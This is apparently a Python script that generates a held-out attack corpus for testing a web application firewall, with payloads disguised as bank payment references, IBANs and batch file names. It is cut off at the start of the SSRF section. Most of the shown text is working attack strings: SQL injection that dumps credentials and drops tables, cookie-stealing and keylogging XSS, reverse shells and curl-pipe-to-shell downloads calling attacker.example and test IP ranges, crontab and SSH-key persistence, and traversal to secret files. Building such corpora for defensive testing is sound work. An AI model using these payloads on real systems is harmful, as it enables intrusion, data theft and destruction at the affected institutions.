"""Held-out attack corpus for the WAF, in the notations of a bank's back-office
and branch systems: payment references, SWIFT / ISO 20022 fields, IBANs,
dispute and KYC notes, GL descriptions, batch file names, letter templates.

Each value is a payload meant to work against a vulnerable application that
puts the value where its class says:

    class = "<context>-<technique>[+<encoding>]"

    context   where the vulnerable app puts the value, e.g.
              sqlstr   inside a single-quoted SQL string literal
              sqlnum   a bare numeric position in SQL
              sqlorder an ORDER BY list
              htmlbody HTML element content, rendered without escaping
              htmlattr inside a double-quoted HTML attribute
              jsstr    inside a single-quoted JavaScript string
              shellarg an unquoted word in a /bin/sh command line
              filepath a path joined to a base directory and opened
              fetchurl a URL the server fetches (webhook, statement import)
              jinja / freemarker / ... a server-side template source
              logline  a line written to a text log
              header   a value copied into an HTTP response header
              mail     a value copied into an e-mail header
              ldapfilter / xpath  a value concatenated into an LDAP filter
                       or XPath expression
              plain    the bare payload with no domain text around it
    encoding  urlenc, urlenc2 (twice), htmlent, uesc (\\uXXXX), case,
              comment (comments as spaces), overlong (overlong UTF-8), ...

Every value is hand-written for this corpus or produced by a small template
over hand-written pools; nothing comes from a public payload list.  Attacker
infrastructure is attacker.example, 203.0.113.0/24 and 198.51.100.0/24 only;
all secrets are fake.

Run:  python3 make_attacks.py   ->  writes attacks.jsonl next to this file.
"""

import base64
import json
import random
import urllib.parse
from pathlib import Path

SEED = 5702
PREFIX = "ha57"

TARGETS = {
    "sqli": 78, "xss": 74, "cmdi": 72, "traversal": 53, "ssrf": 53,
    "code": 78, "nosqli": 27, "crlf": 31, "ldap-xpath": 22,
}


# --------------------------------------------------------------------------
# sqli
# --------------------------------------------------------------------------

SQLI = [
    ("sqlstr-boolean", "PO 55-A' OR '1'='1"),
    ("sqlstr-union", "INV 2024/118' UNION SELECT iban, balance, NULL FROM accounts-- "),
    ("sqlstr-time", "DE75512108001245126199' AND SLEEP(6)-- -"),
    ("sqlstr-time", "RF71 4411 8800 0021 7'||pg_sleep(8)||'"),
    ("sqlstr-time", "E2E-20240611-0042'; WAITFOR DELAY '0:0:7'--"),
    ("sqlnum-boolean", "4471 AND 1=(SELECT COUNT(*) FROM customers WHERE SUBSTRING(pin_hash,1,1)='a')"),
    ("sqlnum-union", "1240.50 UNION ALL SELECT login, password_hash, 3 FROM staff_users"),
    ("sqlorder-boolean", "value_date DESC, (CASE WHEN (SELECT SUBSTR(api_key,1,1) FROM integrations WHERE id=1)='k' THEN amount ELSE iban END)"),
    ("sqlorder-time", "booking_date,IF((SELECT COUNT(*) FROM mysql.user)>0,SLEEP(4),0)"),
    ("sqllike-error", "Müller%' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("sqlstr-error", "GB29' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))-- x"),
    ("sqlstr-error", "CN-204' AND UPDATEXML(NULL,CONCAT(0x2e,(SELECT CURRENT_USER())),NULL)#"),
    ("sqlstr-error", "HANSPLPW' AND 1=CAST((SELECT string_agg(iban||':'||balance::text, ',') FROM accounts) AS int)--"),
    ("sqlstr-stacked", "CN-204'); DROP TABLE standing_orders;--"),
    ("sqlstr-stacked", "INV 77'; UPDATE accounts SET overdraft_limit=999999 WHERE customer_id=4471;--"),
    ("sqlstr-comment", "teller04'-- "),
    ("sqlstr-comment", "ops_admin'#"),
    ("sqlstr-oob", "Smith & Co' || (SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.q1.attacker.example') FROM dual) || '"),
    ("sqlstr-oob", "MT940_0611'; EXEC master..xp_dirtree '\\\\203.0.113.9\\recon\\x';--"),
    ("sqlstr-union", "Kd-Nr. 44817' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("sqlstr-outfile", "x' UNION SELECT 1,'<?php system($_GET[\"c\"]); ?>',3 INTO OUTFILE '/var/www/html/stmt.php'-- -"),
    ("sqlstr-stacked", "pain.001'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p.sh | sh';--"),
    ("sqlstr-union", "Hyra juli' UNION SELECT name, sql, NULL FROM sqlite_master--"),
    ("sqlstr-error", "Faktura FV/2024/06' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))k FROM information_schema.tables GROUP BY k)t)-- "),
    ("sqlstr-blind", "Nowak' AND ASCII(SUBSTRING((SELECT password FROM staff WHERE login='ops_admin'),1,1))>77 AND 'a'='a"),
    ("sqlstr-time", "Rg 77/24' AND BENCHMARK(40000000,SHA1('rec'))-- "),
    ("sqlstr-time", "BR-0612' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',9)--"),
    ("sqlstr-error", "KYC-4471' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1))--"),
    ("sqlstr-union+comment", "INV'/**/UNION/**/SELECT/**/card_number,cvv,expiry/**/FROM/**/cards--"),
    ("sqlstr-union+case", "Miete Juni' uNiOn aLl SeLeCt username,password,null FrOm admin_users-- -"),
    ("sqlstr-union+versioned_comment", "Rechnung 4471' /*!50000UNION*/ /*!50000SELECT*/ iban,bic,holder FROM accounts-- -"),
    ("sqlstr-boolean+urlenc", "PO%2055-A%27%20OR%20%271%27%3D%271"),
    ("sqlstr-union+urlenc2", "INV%25202024%2527%2520UNION%2520SELECT%2520iban%252Cbalance%2520FROM%2520accounts--%2520"),
    ("plain-boolean_nospace", "x'or(1)=(1)#"),
    ("sqlstr-boolean", "Kowalczyk'||'1'='1"),
    ("sqlstr-union+hex", "AL/2024/7' UNION SELECT 0x6f70735f61646d696e, password_hash FROM staff_users WHERE 1-- -"),
    ("sqlstr-time", "ACME-99' AND (SELECT CASE WHEN (SELECT COUNT(*) FROM pg_user WHERE usesuper)>0 THEN pg_sleep(6) ELSE pg_sleep(0) END) IS NULL--"),
    ("sqlstr-error", "Smith' GROUP BY amount HAVING 1=1--"),
    ("sqlstr-stacked", "BACS 004712'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt';--"),
    ("plain-time_subquery", "(SELECT 1 FROM (SELECT SLEEP(6))a)"),
    ("sqlnum-stacked", "4471;SELECT pg_sleep(6)"),
    ("sqlnum-boolean", "300-88-12 OR 1=1"),
    ("sqlnum-error", "44817 AND 1=CONVERT(int,@@version)"),
    ("sqlnum-boolean", "118 AND (SELECT SUBSTR(pin,1,1) FROM cards WHERE id=1)='4'"),
    ("sqlnum-union", "-1 UNION SELECT table_name, column_name, NULL FROM information_schema.columns WHERE table_schema=database()"),
    ("sqlxml-boolean", "<EndToEndId>E2E-0611' OR 'x'='x</EndToEndId>"),
    ("sqlxml-union", "<Ustrd>INV 2024-118' UNION SELECT secret, NULL FROM api_tokens-- </Ustrd>"),
    ("sqlstr-union", ":70:/INV/2024-0118' UNION SELECT bic, rma_key, NULL FROM correspondents--"),
    ("sqlstr-stacked", "Dauerauftrag ab 01.08.'; INSERT INTO payees(customer_id,name,iban) VALUES (4471,'Lina','LT427300010000000001');--"),
    ("sqlstr-boolean", "O'Brien' OR 'a'='a"),
    ("sqlinsert-subquery", "rent June', (SELECT password_hash FROM staff_users LIMIT 1))-- "),
    ("sqlupdate-column", "called cust. twice', role='admin' WHERE login='teller04'-- "),
    ("sqllike-boolean", "Kowalsk%' OR 1=1 OR name LIKE '"),
    ("sqllike-union", "%' UNION SELECT NULL, iban, pin_offset FROM cards WHERE '%'='"),
    ("sqlstr-time", "Zlecenie stałe' AND 4471=(SELECT 4471 FROM PG_SLEEP(5))-- "),
    ("sqlstr-oob", "Rg 77/24' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT HEX(authentication_string) FROM mysql.user LIMIT 1),'.x.attacker.example\\\\a'))-- -"),
    ("sqlstr-error", "BACS 004713' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--"),
    ("sqlstr-stacked", "camt053'; CREATE TABLE t_x(l text); COPY t_x FROM '/etc/passwd'; SELECT string_agg(l, chr(10)) FROM t_x;--"),
    ("sqlstr-blind", "Faktura' AND (SELECT COUNT(*) FROM staff_users WHERE login='ops_admin' AND password_hash LIKE 'a%')=1 AND ''='"),
    ("sqlstr-time", "SO #0042' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)-- -"),
    ("sqlstr-union", "Abono cuota nº 318' UNION SELECT usename, passwd FROM pg_shadow-- "),
    ("sqlstr-boolean_nospace", "INV'OR'x'LIKE'x"),
    ("sqlstr-error", "AML-77' AND extractvalue(rand(),concat(0x3a,(SELECT concat(login,0x3a,password_hash) FROM staff_users LIMIT 0,1)))-- -"),
    ("sqlorder-boolean_error", "amount,(SELECT 1/0 FROM accounts WHERE iban LIKE 'GB%' HAVING COUNT(*)>100)"),
    ("sqlorder-time", "value_date,(SELECT pg_sleep(5))"),
    ("sqlstr-stacked+comment", "CN-204';/**/DELETE/**/FROM/**/audit_log;--"),
    ("sqlstr-boolean+uesc", "{\"ref\": \"INV\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("sqlstr-union+fullwidth", "INV 118＇ UNION SELECT iban, balance FROM accounts--"),
    ("plain-boolean", "' OR 1=1-- "),
    ("plain-union", "' UNION SELECT NULL,NULL,NULL-- -"),
    ("plain-time", "'; SELECT pg_sleep(10);--"),
    ("plain-stacked", "1; DROP TABLE accounts"),
    ("plain-boolean", "\" OR \"\"=\""),
    ("plain-comment", "admin'/*"),
]

SQLI_PREFIX = ["INV 2024/{n}", "SVWZ+RE {n}", "PO {n}-A", "Kd-Nr. {n}",
               "E2E-20240611-{n}", "CN-{n}", "Rg {n}/24"]
SQLI_SUFFIX = [
    ("sqlstr-time", "' AND SLEEP({s})-- -"),
    ("sqlstr-boolean", "' OR '{a}'='{a}"),
    ("sqlstr-time", "'; WAITFOR DELAY '0:0:{s}'--"),
    ("sqlstr-union", "' UNION SELECT iban, balance, NULL FROM accounts WHERE '{a}'='{a}"),
    ("sqlstr-time", "' AND {n2}=(SELECT {n2} FROM PG_SLEEP({s}))-- "),
]


def t_sqli(rng):
    pre = rng.choice(SQLI_PREFIX).format(n=rng.randrange(100, 99999))
    cls, suf = rng.choice(SQLI_SUFFIX)
    suf = suf.format(s=rng.randrange(4, 12), a=rng.choice("abcxyz"),
                     n2=rng.randrange(1000, 9999))
    v = pre + suf
    if rng.random() < 0.15:
        return cls + "+urlenc", urllib.parse.quote(v, safe="")
    return cls, v


# --------------------------------------------------------------------------
# xss
# --------------------------------------------------------------------------

XSS = [
    ("htmlbody-script", "Refund for order 7712 <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("htmlbody-img_onerror", "Cust. unreachable, left voicemail <img src=x onerror=alert(document.domain)>"),
    ("htmlattr-breakout", "Müller GmbH\"><svg onload=alert(1)>"),
    ("htmlattrsq-event", "INV 4471' onmouseover='alert(document.cookie)' x='"),
    ("href-jsuri", "javascript:alert(document.cookie)"),
    ("htmlbody-textarea_breakout", "Dispute note</textarea><script>new Image().src='//attacker.example/k?'+encodeURIComponent(localStorage.getItem('token'))</script>"),
    ("jsstr-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("jsstr-escape_bypass", "Rent June\\';alert(document.domain);//"),
    ("jsstr-scriptclose", "SVWZ+RE 4471</script><script>alert(origin)</script>"),
    ("jstemplate-interp", "${fetch('//attacker.example/t?c='+document.cookie)}"),
    ("htmlbody-details", "KYC doc list <details open ontoggle=alert(1)>"),
    ("htmlbody-iframe_srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("htmlbody-href_jsuri_tab", "<a href=\"jav&#x09;ascript:alert(1)\">Statement 06/2024 (PDF)</a>"),
    ("htmlbody-svg_animate", "Branch 044 note <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("plain-input_autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("htmlbody-pageshow", "Reconciled ✔ <body onpageshow=alert(1)>"),
    ("htmlbody-object_data+b64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("htmlbody-form_phish", "Please re-confirm: <form action=https://attacker.example/verify method=post><input name=pin type=password placeholder='Card PIN'><button>Confirm</button></form>"),
    ("htmlbody-meta_refresh", "Letter draft <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("htmlbody-base_href", "Template note <base href=\"https://attacker.example/\">"),
    ("htmlbody-css_import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("htmlbody-data_uri", "<a href=\"data:text/html,<script>alert(document.domain)</script>\">open statement</a>"),
    ("htmlbody-video_source", "<video><source onerror=\"alert(1)\"></video>"),
    ("htmlbody-marquee", "<marquee onstart=alert(document.domain)>INV 2024/118</marquee>"),
    ("htmlbody-contenteditable", "<x contenteditable onblur=alert(1)>click then tab"),
    ("markdown-jslink", "See [statement PDF](javascript:alert(document.cookie))"),
    ("angular-csti", "Payee: {{constructor.constructor('alert(document.domain)')()}}"),
    ("vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("htmlbody-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("htmlbody-img_onerror+htmlent", "&lt;img src=x onerror=alert(1)&gt;"),
    ("jsonhtml-img_onerror+uesc", "{\"note\":\"\\u003cimg src=x onerror=alert(1)\\u003e\"}"),
    ("plain-script+case", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("htmlbody-img_onerror+attr_htmlent", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("plain-svg_noparens", "<svg/onload=alert`1`>"),
    ("htmlbody-img_onerror+b64", "<img src=x onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8/Yz0nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("htmlbody-keylogger", "<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("htmlattr-overlay", "\" style=\"position:fixed;inset:0\" onmouseover=\"alert(1)\" x=\""),
    ("htmlattr-autofocus", "GB29 QXBK\" autofocus onfocus=\"alert(document.domain)"),
    ("htmlbody-audio", "<audio src=x onerror=alert(document.cookie)>"),
    ("htmlbody-script_strip_bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("htmlbody-svg_script+htmlent", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("htmlattr-href_breakout", "https://bank.example/help\" onclick=\"alert(1)"),
    ("href-jsuri+case", "JaVaScRiPt:alert(document.domain)"),
    ("href-jsuri_ctrlchars", " \tjavascript:alert(1)"),
    ("iframesrc-datauri+b64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("jsstr-dq_breakout", "\";alert(document.cookie);//"),
    ("jsonscript-breakout", "</script><img src=x onerror=alert(1)>"),
    ("htmlcomment-breakout", "--><script>alert(1)</script><!--"),
    ("htmltitle-breakout", "Complaint</title><script>alert(1)</script>"),
    ("htmlbody-onanimationstart", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(1)\"></div>"),
    ("htmlbody-dom_clobber", "<form id=config><input name=apiUrl value=https://attacker.example/api></form>"),
    ("svgfile-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("htmlbody-script_src", "Customer note <script src=//attacker.example/x.js></script>"),
    ("htmlbody-iframe_jsuri", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("htmlattrunq-event", "x onmouseover=alert(1)"),
    ("htmlbody-img_onerror_newlines", "Complaint:\nI was charged twice.\n<img\nsrc=x\nonerror=alert(document.domain)\n>"),
    ("multi-polyglot", "'\"--></style></script><svg onload=alert(1)>"),
    ("htmlbody-img_onerror+urlenc2", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("htmlbody-href_jsuri+htmlent", "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">pay now</a>"),
    ("htmlbody-select_autofocus", "<select autofocus onfocus=alert(1)><option>EUR</option></select>"),
    ("htmlbody-table_background", "<table><tr><td onpointerenter=alert(1)>INV 2024/118</td></tr></table>"),
    ("jsstr-template_breakout", "`;alert(document.cookie);//"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=1 onerror=alert(1)>"),
    ("plain-svg_onload", "<svg onload=alert(document.domain)>"),
    ("plain-jsuri", "javascript:prompt(1)"),
    ("plain-iframe_onload", "<iframe onload=alert(1)>"),
]

XSS_PREFIX = ["INV 2024/{n}", "Note: cust. called at 10:{m:02d}", "Rechnung {n}",
              ":70:/INV/{n}", "Czynsz 06/2024", "Case DSP-2024-{n}",
              "Müller & Söhne GmbH"]
XSS_PAYLOADS = [
    ("htmlbody-img_onerror", "<img src=x onerror=alert({k})>"),
    ("htmlbody-svg_onload", "<svg onload=alert({k})>"),
    ("htmlbody-script", "<script>alert({k})</script>"),
    ("htmlattr-breakout", "\"><img src=x onerror=alert({k})>"),
    ("htmlbody-details", "<details open ontoggle=alert({k})>"),
]


def html_entities(s):
    return "".join(f"&#x{ord(c):x};" if c in "<>\"'()=" else c for c in s)


def t_xss(rng):
    pre = rng.choice(XSS_PREFIX).format(n=rng.randrange(100, 9999), m=rng.randrange(60))
    cls, pay = rng.choice(XSS_PAYLOADS)
    pay = pay.format(k=rng.choice(["document.domain", "document.cookie", "1", "origin"]))
    r = rng.random()
    if r < 0.1:
        return cls + "+urlenc", urllib.parse.quote(pre + " " + pay, safe="")
    if r < 0.2:
        return cls + "+htmlent", pre + " " + html_entities(pay)
    return cls, pre + " " + pay


# --------------------------------------------------------------------------
# cmdi
# --------------------------------------------------------------------------

CMDI = [
    ("shellarg-semicolon", "stmt_20240611.pdf; curl -s https://attacker.example/x.sh | sh"),
    ("shellarg-and", "KONTOAUSZUG_20240611.sta && cat /etc/shadow"),
    ("shellarg-pipe", "pain.001_ACME.xml | nc 203.0.113.7 4444 -e /bin/sh"),
    ("shellarg-subst", "report_$(id).csv"),
    ("shellarg-backtick", "recon_`whoami`.xlsx"),
    ("shellarg-newline", "ACH_0611.txt\nwget -qO- http://198.51.100.23/a | sh"),
    ("shellarg-semicolon_ifs", "GB29QXBK;sleep${IFS}10;"),
    ("shelldq-breakout", "INV 2024/118\"; ping -c 5 203.0.113.5; echo \""),
    ("shellsq-breakout", "Miete Juni'; bash -i >& /dev/tcp/203.0.113.44/9001 0>&1; echo '"),
    ("shellarg-brace", "x;{cat,/etc/passwd}"),
    ("shellarg-glob", "a;/???/c?t /e??/p?ss??"),
    ("shellarg-semicolon+b64", "BACS_004712.txt;echo Y2F0IC9ldGMvcGFzc3dkCg==|base64 -d|sh"),
    ("cmdexe-amp", "MT940_0611.sta & type C:\\Windows\\win.ini"),
    ("cmdexe-pwsh", "LBX_0611_01.dat | powershell -nop -w hidden -c \"iwr http://attacker.example/s.ps1 | iex\""),
    ("cmdexe-certutil", "N19_20240611.txt & certutil -urlcache -split -f http://203.0.113.8/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("shellarg-newline+urlenc", "stmt.pdf%0aid"),
    ("shellarg-dns_exfil", "WYCIAGI_0611.txt;nslookup $(whoami).$(hostname).x.attacker.example"),
    ("plain-backtick_sleep", "`sleep 8`"),
    ("shellarg-or", "nonexistent.csv || id"),
    ("curlarg-option_injection", "-o /var/www/html/r.php https://attacker.example/shell.txt"),
    ("tararg-checkpoint_action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/stmt.sh"),
    ("sshhost-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/p|sh"),
    ("findarg-exec", "-name x -exec sh -c 'curl attacker.example/f|sh' {} +"),
    ("gitarg-upload_pack", "--upload-pack=touch /tmp/pwn"),
    ("sendmailarg-log_write", "ops@bank.example -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("shellarg-var_substring", "x;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd"),
    ("shellarg-ansi_c_quote", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("shellarg-quote_split", "x;c''at /e\"t\"c/pa\\sswd"),
    ("shellarg-redirect", "stmt.csv; echo '<?php system($_GET[0]);' > /var/www/html/.s.php"),
    ("shellarg-python_revshell", "a; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.44\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("shellarg-perl", "x | perl -e 'print `id`'"),
    ("shellarg-mkfifo", "a;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.12 4443 >/tmp/f"),
    ("shellarg-crontab", "x; (crontab -l; echo '* * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("shellarg-authorized_keys", "x && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestsOnly0000000000000 ops' >> ~/.ssh/authorized_keys"),
    ("shellarg-curl_upload", "x; curl -F f=@/etc/passwd https://attacker.example/up"),
    ("plain-subst_sleep", "$(sleep 7)"),
    ("shelldq-subst", "Rechnung $(curl -s attacker.example/r|sh) Nr. 4471"),
    ("shelldq-backtick", "Facture `id` F-2024-0457"),
    ("cmdexe-var", "x & %COMSPEC% /c dir C:\\"),
    ("cmdexe-amp_caret", "x & w^h^o^a^m^i"),
    ("pwshsq-breakout", "statement.pdf'; Invoke-WebRequest -Uri http://203.0.113.8/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1; '"),
    ("cmdexe-pwsh+b64", "x & powershell -EncodedCommand dwBoAG8AYQBtAGkA"),
    ("pwshdq-subexpr", "Report $(Get-Content C:\\Windows\\win.ini) June"),
    ("pinghost-semicolon", "203.0.113.5; cat /etc/hosts"),
    ("pinghost-subst", "127.0.0.1$(curl attacker.example/p|sh)"),
    ("pinghost-pipe", "bank.example | id"),
    ("shellarg-semicolon_tab", "x;cat\t/etc/passwd"),
    ("shellarg-wget_post", "a;wget --post-file=/etc/shadow http://198.51.100.23/"),
    ("shellarg-env_exfil", "x; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("shellarg-semicolon+hex", "x;echo 6964|xxd -r -p|sh"),
    ("shellarg-rev", "x;echo 'di'|rev|sh"),
    ("shellarg-printf_octal", "x;$(printf '\\151\\144')"),
    ("shellarg-newline_multiline", "Batch note:\nfile=LS_20240611.xml\n$(touch /tmp/pwned)"),
    ("shellarg-awk", "x | awk 'BEGIN{system(\"id\")}'"),
    ("shellarg-semicolon+urlenc", "stmt_0611.pdf%3Bcat%20%2Fetc%2Fpasswd"),
    ("shellarg-subst+urlenc2", "report_%2524%2528id%2529.csv"),
    ("shellarg-background", "camt053_0611.xml & sleep 9 &"),
    ("shellarg-heredoc_less", "x; sh < <(curl -s attacker.example/q)"),
    ("shellarg-newline_crlf", "LS_20240611.xml\r\nid"),
    ("shellarg-subst_nested", "EOD_$(echo $(id -u)).log"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subst", "$(whoami)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and", "&& ls -la /"),
    ("plain-cmdexe", "& dir C:\\Users"),
]

CMDI_FILES = ["stmt_{d}.pdf", "KONTOAUSZUG_{d}.sta", "pain.001_{c}_{d}.xml",
              "ACH_{d}.txt", "recon_{c}_{d}.xlsx", "LS_{d}.xml", "BAI2_{c}_{d}.txt"]
CMDI_CLIENTS = ["ACME", "NOWAK", "DUPONT", "LOPEZ"]
CMDI_SEPS = [(";", "semicolon"), ("&&", "and"), ("|", "pipe"), ("||", "or"), ("\n", "newline")]
CMDI_CMDS = ["id", "cat /etc/passwd", "curl -s attacker.example/b|sh",
             "wget -qO- 198.51.100.23/w|sh", "sleep {s}", "uname -a",
             "nc 203.0.113.7 4444 -e /bin/sh"]


def t_cmdi(rng):
    f = rng.choice(CMDI_FILES).format(d=f"2024{rng.randrange(1, 13):02d}{rng.randrange(1, 29):02d}",
                                      c=rng.choice(CMDI_CLIENTS))
    sep, tech = rng.choice(CMDI_SEPS)
    cmd = rng.choice(CMDI_CMDS).format(s=rng.randrange(5, 15))
    if rng.random() < 0.3:
        return f"shellarg-subst", f"{f.rsplit('.', 1)[0]}_$({cmd}).{f.rsplit('.', 1)[1]}"
    v = f"{f}{sep}{cmd}" if sep == "\n" else f"{f} {sep} {cmd}"
    if rng.random() < 0.1:
        return f"shellarg-{tech}+urlenc", urllib.parse.quote(v, safe="")
    return f"shellarg-{tech}", v


# --------------------------------------------------------------------------
# traversal
# --------------------------------------------------------------------------

TRAVERSAL = [
    ("filepath-dotdot", "statements/2024/06/../../../../etc/passwd"),
    ("plain-dotdot_sshkey", "../../../../../../root/.ssh/id_rsa"),
    ("filename-dotdot", "../../../opt/corebank/config/database.yml"),
    ("filename-dotdot_win", "..\\..\\..\\..\\Windows\\win.ini"),
    ("plain-absolute_shadow", "/etc/shadow"),
    ("filepath-absolute_win", "C:\\inetpub\\wwwroot\\web.config"),
    ("filepath-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("filepath-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("filepath-dotdot+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("filepath-dotdot+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("filepath-dotdot_win+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("filepath-strip_bypass", "....//....//....//etc/passwd"),
    ("filepath-strip_bypass", "..././..././..././etc/hosts"),
    ("uripath-matrix_param", "/statements/..;/..;/manager/html"),
    ("filepath-nullbyte+urlenc", "../../../../etc/passwd%00.pdf"),
    ("filepath-nullbyte", "../../../var/log/auth.log\u0000.csv"),
    ("filepath-unc", "\\\\203.0.113.9\\share\\stmt.pdf"),
    ("filepath-proc", "../../../../proc/self/environ"),
    ("filepath-proc_cwd", "/proc/self/cwd/config/secrets.yml"),
    ("include-php_filter", "php://filter/convert.base64-encode/resource=../config/db.php"),
    ("include-log_poison", "../../../../var/log/nginx/access.log"),
    ("zipentry-zipslip", "../../../../var/www/html/cmd.jsp"),
    ("zipentry-zipslip", "export/2024/06/../../../../../home/batch/.bashrc"),
    ("zipentry-zipslip_win", "..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\upd.bat"),
    ("filename-dotdot", "KONTOAUSZUG_20240611/../../../../etc/passwd"),
    ("filename-dotdot_mixed_slash", "..\\../..\\../etc/passwd"),
    ("filepath-dotdot+fullwidth", "．．／．．／．．／etc／passwd"),
    ("filepath-dotdot+iis_u", "%u002e%u002e%u2215%u002e%u002e%u2215windows%u2215win.ini"),
    ("filepath-dotdot", "/data/inbound/sepa/2024/06/11/../../../../../../etc/passwd"),
    ("filepath-dotdot", "reports/out/../../../../app/.env"),
    ("filepath-dotdot_win", "E:\\SAA\\Emission\\..\\..\\Windows\\System32\\config\\SAM"),
    ("filepath-dotdot", "/mnt/archive/swift/2024/06/../../../../../../etc/ssl/private/server.key"),
    ("filepath-dotdot+urlenc_partial", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("filepath-dotdot_double_slash", "..//..//..//..//etc//passwd"),
    ("filepath-ads_win", "..\\..\\inetpub\\wwwroot\\default.aspx::$DATA"),
    ("templatename-dotdot", "letters/../../../../../etc/passwd"),
    ("filepath-k8s_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("filepath-history", "../../../../home/batch/.bash_history"),
    ("filepath-git_config", "../../.git/config"),
    ("filepath-absolute_win", "C:/Windows/System32/drivers/etc/hosts"),
    ("uripath-dotdot+urlenc", "/download/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("filepath-dotdot_win+urlenc2", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("filepath-proc_environ_pid1", "/proc/1/environ"),
    ("filepath-dotdot", "statements/../../../../home/batch/.aws/credentials"),
    ("zipentry-absolute", "/etc/cron.d/stmt_cleanup"),
    ("plain-dotdot", "../../../../etc/passwd"),
    ("plain-dotdot_win", "..\\..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fshadow"),
]

TRAV_BASES = ["statements/2024/{m:02d}", "batch/inbound/sepa", "letters/templates",
              "exports/recon/{m:02d}", "uploads/kyc/4471"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "root/.ssh/id_rsa", "opt/corebank/conf/app.properties",
                "home/batch/.pgpass", "var/www/.env"]


def t_traversal(rng):
    base = rng.choice(TRAV_BASES).format(m=rng.randrange(1, 13))
    depth = rng.randrange(4, 9)
    v = base + "/" + "../" * depth + rng.choice(TRAV_TARGETS)
    r = rng.random()
    if r < 0.15:
        return "filepath-dotdot+urlenc", v.replace("../", "%2e%2e%2f")
    if r < 0.4:
        return "filepath-dotdot_backslash", v.replace("/", "\\")
    return "filepath-dotdot", v


# --------------------------------------------------------------------------
# ssrf
# --------------------------------------------------------------------------

SSRF = [
    ("fetchurl-metadata_aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
